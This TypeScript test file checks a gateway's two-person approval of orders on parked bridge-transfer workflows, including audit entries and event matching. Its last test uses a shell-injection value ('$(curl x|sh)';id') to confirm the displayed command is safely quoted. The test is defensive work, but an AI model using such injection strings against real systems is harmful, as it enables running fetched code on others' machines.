import type { Client } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import { pino } from 'pino';
import { describe, expect, it } from '@jest/globals';
import type { ActivityDeps } from '../../activities/deps.js';
import { createOrderActivities } from '../../activities/orders.js';
import type { OrderToAdmit } from '../../activities/types.js';
import type { FlowOperationDeps } from '../../src/gateway/flows/deps.js';
import { giveOrder } from '../../src/gateway/flows/give-order.js';
import type { Caller } from '../../src/gateway/http/bearer-token.js';
import { FOUR_EYES_BY_DEFAULT, TRUST_EVENT } from '../../src/protocol/four-eyes.js';
import { UPDATES } from '../../src/protocol/vocabulary.js';
import type { Store } from '../../src/store/store.js';
import { viewOfNewFlow, type FlowFacts } from '../../src/temporal/flow-handle.js';
import { newReference } from '../harness/references.js';
import { anEvent, withTemporaryStore } from '../store/temporary-store.js';

const FOUR_EYES = { actions: [...FOUR_EYES_BY_DEFAULT, 'keep-waiting'], above: new Map<string, string>() };
/** No order to a flow: four-eyes.test.ts vouches for an event by its replay. */
const ORDERS = FOUR_EYES_BY_DEFAULT.filter((action) => action !== TRUST_EVENT);

describe('an order that needs two persons by default', () => {
  let store: Store;
  withTemporaryStore((opened) => (store = opened));

  /** A flow that is parked with this action alone, behind the gateway's own code and the worker's own check of orders. */
  const parkedFlow = (action: string) => {
    const reference = newReference('two');
    const flowId = `bridge-transfer/${reference}`;
    const address = { kind: 'bridge-transfer', reference, flowId } as const;
    const evidence = { claims: { createBridgeDeposit: 'sending' }, unverified: [{ id: 'evt_1' }, { id: 'evt_2' }] };
    const parked = { reason: 'no_settlement', since: new Date().toISOString(), actions: [action], evidence } as const;
    const view = { ...viewOfNewFlow(flowId, new Date()), state: 'parked', parked } as never;
    const carriedOut: string[] = [];
    const { admitOrder } = createOrderActivities({ store, fourEyes: FOUR_EYES } as unknown as ActivityDeps);
    /** As the flow's handler does with what came by any Temporal client. */
    const take = async (order: OrderToAdmit['order']) => {
      const verdict = await admitOrder({ flowId, update: UPDATES.resolve, action, order, parked });
      if (verdict.kind === 'refused') throw ApplicationFailure.nonRetryable(verdict.why, 'needs_second_person');
      carriedOut.push(verdict.by);
    };
    const startUpdate = async (_name: string, { args }: { args: [OrderToAdmit['order']] }) => {
      await take(args[0]);
      return { result: () => Promise.resolve({ accepted: true }) };
    };
    const client = {
      connection: { withDeadline: <T>(_deadline: number, ask: () => Promise<T>) => ask() },
      workflow: { getHandle: () => ({ startUpdate }) },
    } as unknown as Client;
    const deps = {
      store,
      client,
      settings: { fourEyes: FOUR_EYES },
      reader: { facts: async () => ({ isOpen: true }) as FlowFacts, show: async () => view },
      budget: { take: () => () => undefined },
      logger: pino({ enabled: false }),
    } as unknown as FlowOperationDeps;
    const by = async (name: string, choice: Record<string, string> = {}) => {
      const caller: Caller = { name, role: 'operator', means: 'token' };
      const content = { action, note: `says ${name}`, ...choice };
      return (await giveOrder(deps, caller, address, { update: UPDATES.resolve, action, content, choice })).isProposed;
    };
    return { flowId, parked, take, by, carriedOut };
  };

  it.each(ORDERS)(
    'is refused to another client, a proposal of the first person, and done with a second one: %s',
    async (action) => {
      const { flowId, parked, take, by, carriedOut } = parkedFlow(action);
      await store.audit.append({ kind: 'start', flowId, actor: 'carol', means: 'token' });
      await expect(take({ actor: 'bob', note: 'from another client' })).rejects.toMatchObject({
        type: 'needs_second_person',
      });
      expect(await by('alice')).toBe(true);
      await expect(by('alice')).rejects.toMatchObject({ status: 409, details: { code: 'needs_second_person' } });
      await expect(by('carol')).rejects.toMatchObject({ status: 403, details: { code: 'started_by_caller' } });
      expect(carriedOut).toEqual([]);
      expect(await by('bob')).toBe(false);
      expect(carriedOut).toEqual(['alice and bob']);

      const entries = await store.audit.list({ flowId, limit: 100, oldestFirst: true });
      expect(entries.map(({ kind, actor, means }) => `${kind} ${actor} ${means}`)).toEqual([
        'start carol token',
        'refused bob unproven',
        'proposal alice token',
        'refused alice token',
        'refused carol token',
        'order bob token',
      ]);
      const first = { by: 'alice', note: 'says alice' };
      expect(entries.at(-1)).toMatchObject({ action, details: { note: 'says bob', first, parked } });
    },
  );

  it('is of the event that both persons named: the second one confirms no event that was not shown', async () => {
    const { by, carriedOut } = parkedFlow('trust-settlement');
    expect(await by('alice', { eventId: 'evt_1' })).toBe(true);
    for (const choice of [{}, { eventId: 'evt_2' }] as Record<string, string>[]) {
      await expect(by('bob', choice)).rejects.toMatchObject({
        status: 409,
        message: expect.stringContaining('--event evt_1'),
        details: { code: 'other_proposal' },
      });
    }
    expect(carriedOut).toEqual([]);
    expect(await by('bob', { eventId: 'evt_1' })).toBe(false);
    expect(carriedOut).toEqual(['alice and bob']);
  });

  it('is never of an event that does not exist, or that is of another flow', async () => {
    const { by } = parkedFlow('trust-settlement');
    const other = anEvent({ flowId: 'bridge-transfer/another', proof: null });
    await store.inbox.receive(other);
    for (const eventId of ['evt_never_came', other.id]) {
      const code = 'event_not_asked_about';
      await expect(by('alice', { eventId })).rejects.toMatchObject({ status: 409, details: { code } });
    }
    expect(await by('bob', { eventId: 'evt_1' })).toBe(true);
  });

  it('is of an event that the inbox has for the flow', async () => {
    const { by, flowId } = parkedFlow('trust-settlement');
    const own = anEvent({ flowId, proof: null });
    await store.inbox.receive(own);
    expect(await by('alice', { eventId: own.id })).toBe(true);
  });

  it('is shown to the second person as a command in which a shell finds nothing to run', async () => {
    const { by } = parkedFlow('keep-waiting');
    expect(await by('alice', { until: "$(curl x|sh)';id" })).toBe(true);
    await expect(by('bob')).rejects.toMatchObject({
      message: expect.stringContaining(String.raw`--until '$(curl x|sh)'\'';id'`),
    });
  });
});
